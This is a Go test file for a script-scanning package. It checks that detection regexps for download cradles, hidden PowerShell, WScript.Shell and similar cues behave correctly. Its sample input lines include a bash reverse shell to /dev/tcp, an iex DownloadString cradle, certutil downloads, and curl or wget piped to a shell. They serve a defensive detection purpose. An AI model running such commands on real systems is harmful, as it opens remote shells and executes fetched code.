package fileprocessor

import (
	"bytes"
	"math/bits"
	"os"
	"path/filepath"
	"regexp/syntax"
	"slices"
	"strings"
	"testing"
)

func TestRequiredLiterals(t *testing.T) {
	for _, tc := range []struct {
		expr string
		want []string
	}{
		{`(?i)fromcharcode|\bchrw?\s*\(\s*\d+\s*\)\s*&`, []string{"chr", "fromcharcode"}},
		{`(?i)downloadstring|downloadfile`, []string{"downloadfile", "downloadstring"}},
		{`;\s*$`, []string{";"}},
		{`child_process|\bexecSync\s*\(`, []string{"child_process", "execsync"}},
		{`^\s*(fi|done|esac|then|do)\s*$`, []string{"do", "esac", "fi", "then"}},
		{`["']x`, []string{`"x`, "'x"}},
		{`["']`, []string{`"`, `'`}},
		{`a|b?`, nil},
		{`.*`, nil},
		{`=>\s*[{(\w]|===|!==`, []string{"!==", "===", "=>"}},
		{`(?i)\bwscript\.(echo|shell)`, []string{"wscript.echo", "wscript.shell"}},
		{`(?i)msxml2\.(server)?xmlhttp`, []string{"msxml2.serverxmlhttp", "msxml2.xmlhttp"}},
		{`(?i)-w(indowstyle)?\s+hidden|-nop\b`, []string{"hidden", "nop"}},
		{`\w+`, nil},
		{`(?i)k`, []string{"k"}}, // also matches the Kelvin sign: candidates gives non-ASCII lines everything
	} {
		t.Run(tc.expr, func(t *testing.T) {
			re, err := syntax.Parse(tc.expr, syntax.Perl)
			if err != nil {
				t.Fatal(err)
			}
			got := requiredLiterals(re.Simplify())
			if !slices.Equal(got, tc.want) {
				t.Errorf("requiredLiterals = %q, want %q", got, tc.want)
			}
		})
	}
}

// checkPatterns fails unless the set answers exactly what its regexps do on line.
func checkPatterns(t *testing.T, p *patternSet, line string) {
	t.Helper()
	found := map[int][]int{}
	last := -1
	p.find(line, func(k int, loc []int) {
		if k <= last {
			t.Fatalf("find reported pattern %d after %d", k, last)
		}
		last, found[k] = k, loc
	})
	matches := p.matches(line)
	for k, re := range p.res {
		want := re.FindStringIndex(line)
		if got := found[k]; !slices.Equal(got, want) {
			t.Fatalf("pattern %d %q on %q: find = %v, regexp = %v", k, re, line, got, want)
		}
		if got := matches&(1<<k) != 0; got != (want != nil) {
			t.Fatalf("pattern %d %q on %q: matches = %v, regexp = %v", k, re, line, got, want != nil)
		}
	}
}

// TestPatternSetMatchesRegexps runs every script pattern on lines built from the patterns' own
// literals, in mixed case, with and without non-ASCII bytes, and on the scripts installed here.
func TestPatternSetMatchesRegexps(t *testing.T) {
	lines := []string{
		"", "x", "var a = 1;", "WScript.Shell", "String.fromCharCode(104,116)", "iex (New-Object Net.WebClient).DownloadString('http://x')",
		"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "@echo off", "fi", "  done  ", "dim x",
		"Set o = CreateObject(\"WScript.Shell\")", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "import os", "def f(x):",
		"ſtring.fromCharCode(1)", "\u212aernel", "CHR(65) & CHR(66)", "$env:TEMP", "x => y", "a === b",
		"if [[ -f x ]]; then", "echo ${HOME}", "x=$(id)", "xfromcharcode fromcharcode", "chr(1) & fromCharCode", ":label",
		"certutil.exe -urlcache -f http://x", "curl http://x | sh", "wget -qO- http://x|bash",
	}
	for _, p := range []*patternSet{cuePatterns, indicatorPatterns} {
		for _, line := range lines {
			checkPatterns(t, p, line)
			checkPatterns(t, p, strings.ToUpper(line))
		}
		for _, line := range machineScriptLines(t, 30000) {
			checkPatterns(t, p, line)
		}
		// Most lines of ordinary text must leave most patterns out, or the filter is useless.
		mask, _ := p.candidates("the quick brown fox jumps over the lazy dog")
		if n := bits.OnesCount64(mask); n > len(p.parts)/4 {
			t.Errorf("plain prose is a candidate for %d of %d parts", n, len(p.parts))
		}
	}
}

func FuzzPatternSet(f *testing.F) {
	for _, s := range []string{"String.fromCharCode(1)", "IEX(x)", "@ECHO OFF", "fi", "\u212a", "CreateObject(\"WScript.Shell\")"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		checkPatterns(t, cuePatterns, line)
		checkPatterns(t, indicatorPatterns, line)
	})
}

// machineScriptLines returns up to n lines of the scripts installed on this machine (shell,
// Python, JavaScript, Perl).
func machineScriptLines(t *testing.T, n int) []string {
	t.Helper()
	var out []string
	for _, glob := range []string{"/usr/bin/*", "/usr/lib/python3*/*.py", "/usr/lib/node_modules/npm/lib/*/*.js", "/usr/share/perl/*/*.pm"} {
		files, _ := filepath.Glob(glob)
		for _, f := range files {
			b, err := os.ReadFile(f)
			if err != nil || len(b) > 1<<20 || bytes.IndexByte(head(b, 512), 0) >= 0 {
				continue
			}
			for line := range strings.Lines(string(b)) {
				if len(out) == n {
					return out
				}
				out = append(out, strings.TrimSuffix(line, "\n"))
			}
		}
	}
	if len(out) < 1000 {
		t.Logf("only %d script lines on this machine", len(out))
	}
	return out
}
